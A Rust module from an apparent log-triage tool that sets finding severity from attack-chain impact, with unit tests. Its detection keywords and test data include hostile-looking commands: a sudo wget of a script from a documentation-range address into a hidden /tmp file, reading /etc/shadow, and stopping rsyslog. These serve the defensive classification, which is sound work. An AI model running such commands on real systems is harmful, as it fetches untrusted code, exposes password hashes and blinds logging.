//! Severity that means something: decided from impact and position in a chain, never from
//! volume alone. The policy (also in `docs/triage.md` and the report's method section):
//!
//! - **critical**: access gained after an attack *and* followed by more (privilege,
//!   persistence, downloads, lateral movement, data out, logs tampered): `attack_chain`.
//! - **high**, each with its reason in `details.severity_reason`:
//!   - success after attack: a login that worked from an address after a run of failures;
//!   - persistence: accounts, groups or crontabs changed shortly after such a login;
//!   - privilege gained: the first time a user runs a shell through sudo;
//!   - download or tampering through sudo (`wget`/`curl`, reading password hashes, stopping
//!     the logger), unless the user ran the same command on other days;
//!   - data out: far more bytes to one address than any usual source;
//!   - logs tampered: a regular log that falls silent;
//!   - an attack request that the web server answered 2xx;
//!   - what an intruder runs (`process_activity`'s high patterns: a download piped to a
//!     shell, a reverse shell, a program run from a temporary folder, `chmod +x` then execute,
//!     history and log wiping).
//! - Everything else is at most **medium**: brute force, spraying, scans and probes however
//!   many (volume), sightings across sources, statistical outliers of counts.
//! - Routine administration is **low**: sudo commands the same user ran on other days, and
//!   package management.
//! - A rule of the analyst's own that says high or critical keeps it only with a
//!   `severity_reason` column; otherwise it becomes medium. Sigma findings carry their rule's
//!   `level` as the reason. A changed severity keeps the
//!   rule's own in `details.rule_severity`.

use std::collections::{BTreeMap, BTreeSet};

use polars::prelude::*;

use crate::detect::finding::{Finding, Severity};
use crate::error::AnalysisError;
use crate::parse::time::parse_rfc3339_utc;
use crate::query::frame;
use crate::query::{CaseData, Run};
use crate::schema::action;

const DAY: i64 = 86_400_000_000;

/// One sudo command of the case.
struct Sudo {
    ts: i64,
    host: String,
    user: String,
    cmd: String,
}

/// What a sudo command does, as far as severity goes.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
enum SudoKind {
    Package,
    Other,
    Accounts,
    Shell,
    Download,
    Secrets,
    Tampering,
}

fn sudo_kind(cmd: &str) -> SudoKind {
    let c = cmd.to_ascii_lowercase();
    let program = c.split_whitespace().next().unwrap_or("");
    let base = program.rsplit('/').next().unwrap_or(program);
    if c.contains("stop rsyslog") || c.contains("stop systemd-journald") || c.contains("/var/log") {
        SudoKind::Tampering
    } else if c.contains("/etc/shadow") {
        SudoKind::Secrets
    } else if c.contains("wget ") || c.contains("curl ") {
        SudoKind::Download
    } else if matches!(base, "bash" | "sh" | "zsh" | "dash" | "su") || c.ends_with(" -i") || c.ends_with(" -s") {
        SudoKind::Shell
    } else if matches!(base, "apt" | "apt-get" | "yum" | "dnf" | "dpkg" | "rpm" | "snap" | "zypper" | "pacman") {
        SudoKind::Package
    } else if matches!(base, "useradd" | "usermod" | "userdel" | "passwd" | "groupadd" | "gpasswd" | "visudo") {
        SudoKind::Accounts
    } else {
        SudoKind::Other
    }
}

/// Every sudo command of the case, in time order.
fn sudo_commands(data: &CaseData) -> Result<Vec<Sudo>, AnalysisError> {
    let df = data
        .events()?
        .filter(col("event_action").eq(lit(action::SUDO_COMMAND)).and(col("process_command_line").is_not_null()))
        .select([
            col("timestamp").cast(DataType::Int64).alias("ts"),
            col("host_name"),
            col("user_name"),
            col("process_command_line"),
        ])
        .sort(["ts"], Default::default())
        .run()?;
    let (ts, host, user, cmd) = (
        frame::ints(&df, "ts")?,
        frame::strs(&df, "host_name")?,
        frame::strs(&df, "user_name")?,
        frame::strs(&df, "process_command_line")?,
    );
    Ok((0..df.height())
        .map(|i| Sudo {
            ts: ts[i].unwrap_or(0),
            host: host[i].clone().unwrap_or_default(),
            user: user[i].clone().unwrap_or_default(),
            cmd: cmd[i].clone().unwrap_or_default(),
        })
        .collect())
}

/// The verdict on one `unusual sudo command` finding: its severity and why.
fn sudo_verdict(f: &Finding, all: &[Sudo]) -> (Severity, Option<String>) {
    let (from, to) = (parse_rfc3339_utc(&f.first_seen).unwrap_or(0), parse_rfc3339_utc(&f.last_seen).unwrap_or(0));
    let user = f.user_name.as_deref().unwrap_or("");
    let host = f.host_name.as_deref().unwrap_or("");
    let mine: Vec<&Sudo> = all.iter().filter(|s| s.user == user).collect();
    // Days (UTC) on which the user ran each command, anywhere.
    let mut days: BTreeMap<&str, BTreeSet<i64>> = BTreeMap::new();
    for s in &mine {
        days.entry(s.cmd.as_str()).or_default().insert(s.ts.div_euclid(DAY));
    }
    let mut worst: Option<(SudoKind, String)> = None;
    let mut routine = 0;
    let here: Vec<&&Sudo> = mine.iter().filter(|s| s.host == host && s.ts >= from && s.ts <= to).collect();
    for s in &here {
        let kind = sudo_kind(&s.cmd);
        let other_days = days.get(s.cmd.as_str()).is_some_and(|d| d.len() > 1);
        if kind == SudoKind::Package || other_days {
            routine += 1;
            continue;
        }
        let reason = match kind {
            SudoKind::Shell => {
                let earlier = mine.iter().any(|o| o.ts < s.ts && sudo_kind(&o.cmd) == SudoKind::Shell);
                if earlier {
                    continue;
                }
                format!("privilege gained: the first shell {user} ran through sudo (`{}`)", s.cmd)
            }
            SudoKind::Download => format!("download through sudo: `{}`", s.cmd),
            SudoKind::Secrets => format!("password hashes read through sudo: `{}`", s.cmd),
            SudoKind::Tampering => format!("logging touched through sudo: `{}`", s.cmd),
            _ => continue,
        };
        if worst.as_ref().is_none_or(|(k, _)| kind > *k) {
            worst = Some((kind, reason));
        }
    }
    match worst {
        Some((_, reason)) => (Severity::High, Some(reason)),
        None if !here.is_empty() && routine == here.len() => (Severity::Low, None),
        None => (Severity::Medium, None),
    }
}

fn detail_str<'a>(f: &'a Finding, key: &str) -> Option<&'a str> {
    f.details.get(key).and_then(|v| v.as_str())
}

fn detail_num(f: &Finding, key: &str) -> Option<f64> {
    f.details.get(key).and_then(|v| v.as_f64().or_else(|| v.as_str().and_then(|s| s.parse().ok())))
}

/// The policy's verdict for one finding: its severity and, for high and critical, why.
fn verdict(f: &Finding, sudo: &[Sudo]) -> (Severity, Option<String>) {
    let capped = f.severity.min(Severity::Medium);
    match f.rule.as_str() {
        "attack_chain" => {
            let stages = detail_str(f, "stages").unwrap_or("");
            let after: Vec<&str> = stages.split(" → ").skip_while(|s| *s != "initial access").skip(1).collect();
            if after.is_empty() {
                (Severity::High, Some(format!("access gained after an attack ({stages})")))
            } else {
                (Severity::Critical, Some(format!("access gained after an attack, then {}", after.join(", "))))
            }
        }
        "success_after_failures" => (
            Severity::High,
            Some(format!(
                "success after attack: {} logged in from {} after {} failed attempts from it",
                f.user_name.as_deref().unwrap_or("?"),
                f.source_ip.as_deref().unwrap_or("?"),
                detail_num(f, "failures_before").unwrap_or(0.0)
            )),
        ),
        "account_change" => match detail_str(f, "after_suspicious_login") {
            Some(login) => (
                Severity::High,
                Some(format!(
                    "persistence: {} changed {} min after a suspicious login ({login})",
                    f.user_name.as_deref().unwrap_or("?"),
                    detail_num(f, "minutes_after_login").unwrap_or(0.0)
                )),
            ),
            None => (capped, None),
        },
        "sudo_activity" if detail_str(f, "kind") == Some("unusual sudo command") => sudo_verdict(f, sudo),
        "log_integrity" if detail_str(f, "kind") == Some("silent gap") => (
            Severity::High,
            Some(format!(
                "logs tampered or stopped: {} (a log that usually writes every {} min)",
                f.title,
                detail_num(f, "usual_spacing_minutes").unwrap_or(0.0)
            )),
        ),
        "volume_anomaly" if detail_str(f, "series") == Some("response bytes per source IP") => {
            (Severity::High, Some(format!("data out: {}", f.title)))
        }
        "web_attack" => match detail_num(f, "answered_2xx").filter(|n| *n > 0.0) {
            Some(n) if f.severity >= Severity::High => {
                (Severity::High, Some(format!("{n} attack request(s) answered 2xx by the web server")))
            }
            _ => (capped, None),
        },
        // The high patterns of queries/process_patterns.tsv are what intruders run.
        "process_activity" if f.severity >= Severity::High => {
            (Severity::High, Some(format!("what an intruder runs: {}", f.title)))
        }
        // The analyst's own rules: high only with a stated reason.
        _ => match detail_str(f, "severity_reason") {
            Some(r) if f.severity >= Severity::High => (f.severity, Some(r.to_string())),
            _ => (capped, None),
        },
    }
}

/// Applies the policy to every finding.
pub fn apply(data: &CaseData, findings: &mut [Finding]) -> Result<(), AnalysisError> {
    let sudo = if findings.iter().any(|f| f.rule == "sudo_activity") { sudo_commands(data)? } else { Vec::new() };
    for f in findings.iter_mut() {
        let (severity, reason) = verdict(f, &sudo);
        if severity != f.severity {
            f.details.insert("rule_severity".into(), f.severity.as_str().into());
            f.severity = severity;
        }
        match reason {
            Some(r) if severity >= Severity::High => {
                f.details.insert("severity_reason".into(), r.into());
            }
            _ => {
                f.details.remove("severity_reason");
            }
        }
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::detect::finding::Draft;
    use crate::parse::time::parse_rfc3339_utc as t;

    fn sudo(ts: &str, user: &str, cmd: &str) -> Sudo {
        Sudo { ts: t(ts).unwrap(), host: "web01".into(), user: user.into(), cmd: cmd.into() }
    }

    fn unusual(user: &str, from: &str, to: &str) -> Finding {
        let mut d = Draft::new("sudo_activity", Severity::High).detail("kind", "unusual sudo command");
        d.user_name = Some(user.into());
        d.host_name = Some("web01".into());
        d.first_seen = t(from).unwrap();
        d.last_seen = t(to).unwrap();
        d.finish()
    }

    #[test]
    fn commands_are_classified() {
        assert_eq!(sudo_kind("/bin/bash"), SudoKind::Shell);
        assert_eq!(sudo_kind("/usr/bin/su -"), SudoKind::Shell);
        assert_eq!(sudo_kind("/usr/bin/wget http://198.51.100.23/x.sh -O /tmp/.x.sh"), SudoKind::Download);
        assert_eq!(sudo_kind("/usr/bin/apt-get upgrade -y"), SudoKind::Package);
        assert_eq!(sudo_kind("/bin/cat /etc/shadow"), SudoKind::Secrets);
        assert_eq!(sudo_kind("/usr/sbin/useradd -m carol"), SudoKind::Accounts);
        assert_eq!(sudo_kind("/bin/systemctl stop rsyslog"), SudoKind::Tampering);
    }

    #[test]
    fn a_first_shell_is_high_with_its_reason_and_routine_is_low() {
        let all = vec![
            sudo("2025-12-01T10:00:00Z", "alice", "/bin/bash"),
            sudo("2025-12-02T10:00:00Z", "alice", "/bin/bash"),
            sudo("2025-12-03T10:00:00Z", "deploy", "/bin/bash"),
            sudo("2025-12-03T11:00:00Z", "ops", "/usr/bin/apt-get upgrade -y"),
        ];
        // alice's shell on the second day: she did it the day before (and ran it on two days).
        let (s, r) = sudo_verdict(&unusual("alice", "2025-12-02T10:00:00Z", "2025-12-02T10:00:00Z"), &all);
        assert_eq!((s, r), (Severity::Low, None));
        let (s, r) = sudo_verdict(&unusual("deploy", "2025-12-03T10:00:00Z", "2025-12-03T10:00:00Z"), &all);
        assert_eq!(s, Severity::High);
        assert!(r.unwrap().contains("first shell deploy ran through sudo"));
        let (s, _) = sudo_verdict(&unusual("ops", "2025-12-03T11:00:00Z", "2025-12-03T11:00:00Z"), &all);
        assert_eq!(s, Severity::Low, "package management is routine");
    }

    #[test]
    fn volume_alone_is_never_high() {
        let mut d = Draft::new("ssh_bruteforce", Severity::High);
        d.count = 5000;
        let f = d.finish();
        assert_eq!(verdict(&f, &[]), (Severity::Medium, None));
        let own = Draft::new("my_rule", Severity::Critical).detail("severity_reason", "known implant beacon").finish();
        assert_eq!(verdict(&own, &[]), (Severity::Critical, Some("known implant beacon".into())));
        let chain = Draft::new("attack_chain", Severity::Critical)
            .detail("stages", "reconnaissance → brute force → initial access → persistence")
            .finish();
        let (s, r) = verdict(&chain, &[]);
        assert_eq!(s, Severity::Critical);
        assert_eq!(r.unwrap(), "access gained after an attack, then persistence");
    }
}
